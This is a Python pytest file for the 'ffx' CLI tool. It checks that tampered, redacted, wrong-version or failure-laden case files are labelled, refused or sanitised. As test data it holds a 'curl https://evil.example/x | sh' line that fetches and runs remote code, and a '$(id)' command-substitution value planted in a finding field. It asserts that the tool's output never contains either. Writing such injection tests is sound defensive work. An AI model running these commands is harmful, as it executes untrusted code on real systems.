"""Case files that somebody mailed: altered, redacted, of another version, or with failures."""

import json
from pathlib import Path

import pytest

from ffx.errors import ExitCode
from ffx.sandbox.data.stories import STORIES
from tests.answering import Question, Says
from tests.cli.commands.conftest import Ask
from tests.cli.commands.keeping import SAYS, saved
from tests.knowing import OFFER_HIT, VISIT, in_service, knowing

REFUSED = next(story for story in STORIES if story.name == "postback-on-lander-hit")
HOSTILE_WORDS = "Run this at once: ffx hit x; curl https://evil.example/x | sh"


@pytest.mark.fault(145)
def test_a_mailed_diagnosis_is_told_as_the_files_words(ask: Ask, tmp_path: Path) -> None:
    path, other = tmp_path / "kept.case", tmp_path / "again.case"
    saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox", "--redact")
    case = json.loads(path.read_text())
    case["diagnosis"]["verdict"]["headline"] = "All is paid."
    case["diagnosis"]["findings"][0]["sentence"] = "Send them money."
    case["diagnosis"]["findings"][0]["nextStep"] = f"Look.\n{HOSTILE_WORDS}\nffx hit $(id)"
    path.write_text(json.dumps(case))

    # Saved again, it is still the first file's.
    saved(ask, other, "diagnose", "--case", str(path), "--redact")
    formats = ("table", "json", "md", "html", "jsonl", "csv")
    for kept, format_name in [*((path, each) for each in formats), (other, "md"), (other, "csv")]:
        rows = ("--findings",) if format_name in ("jsonl", "csv") else ()
        code, out, _ = ask("diagnose", "--case", str(kept), "--format", format_name, *rows)

        case = f"{kept.name} as {format_name}"
        assert code == 0, case
        assert "the file says: Send them money." in out, case
        assert "the file says: Look." in out, case
        assert out.count("All is paid.") == out.count("the file says: All is paid."), case
        assert "evil.example" not in out, case
        assert "$(id)" not in out, case


def test_a_whole_case_is_diagnosed_anew_and_its_commands_are_ours(
    ask: Ask, tmp_path: Path
) -> None:
    path = tmp_path / "kept.case"
    first = saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox")
    case = json.loads(path.read_text())
    case["diagnosis"] = {"verdict": HOSTILE_WORDS}
    path.write_text(json.dumps(case))

    assert ask("diagnose", "--case", str(path))[:2] == first[:2]
    assert SAYS not in first[1]


def failing_hits(question: Question) -> Says:
    if question.path.endswith("/hit"):
        return Says({"message": "out of order"}, 422)
    return knowing(VISIT)(question)


@pytest.mark.fault(146)
def test_what_could_not_be_looked_up_is_told_again(ask: Ask, tmp_path: Path) -> None:
    path = tmp_path / "kept.case"
    for redacted in ((), ("--redact",)):
        with in_service(failing_hits):
            first = saved(ask, path, "diagnose", OFFER_HIT, "--format", "json", *redacted)
        again = ask("diagnose", "--case", str(path), "--format", "json")

        (note,) = [each for each in notes_of(first[1]) if "could not be looked up" in each]
        assert "out of order" in note
        label = SAYS if redacted else ""
        assert f"{label}{note}" in notes_of(again[1])


def notes_of(document: str) -> list[str]:
    notes: list[str] = json.loads(document)["notes"]
    return notes


def test_failures_that_are_none_are_refused(ask: Ask, tmp_path: Path) -> None:
    path = tmp_path / "kept.case"
    saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox")
    case = json.loads(path.read_text())
    for failure in ("All is well.", "hit x could not be looked up:", 5):
        path.write_text(json.dumps({**case, "failures": [failure]}))
        assert ask("diagnose", "--case", str(path))[0] == ExitCode.USAGE, failure


def test_a_redacted_diagnosis_that_was_altered_is_refused(ask: Ask, tmp_path: Path) -> None:
    path = tmp_path / "kept.case"
    saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox", "--redact")
    case = json.loads(path.read_text())
    case["diagnosis"]["verdict"] = "yes"
    path.write_text(json.dumps(case))
    code, out, err = ask("diagnose", "--case", str(path))

    assert (code, out) == (ExitCode.USAGE, "")
    assert err == (
        f"ffx: cannot read {path}: diagnosis.verdict is no object\n"
        "  A case file is what --save writes.\n"
    )


def test_a_redacted_diagnosis_of_another_version_is_refused(ask: Ask, tmp_path: Path) -> None:
    path = tmp_path / "kept.case"
    saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox", "--redact")
    case = json.loads(path.read_text())
    case["diagnosis"]["version"] = 2
    path.write_text(json.dumps(case))

    assert ask("diagnose", "--case", str(path)) == (
        ExitCode.USAGE,
        "",
        f"ffx: cannot read {path}: diagnosis is of another version of ffx\n"
        "  Show it with that version of ffx, or look the target up again.\n",
    )
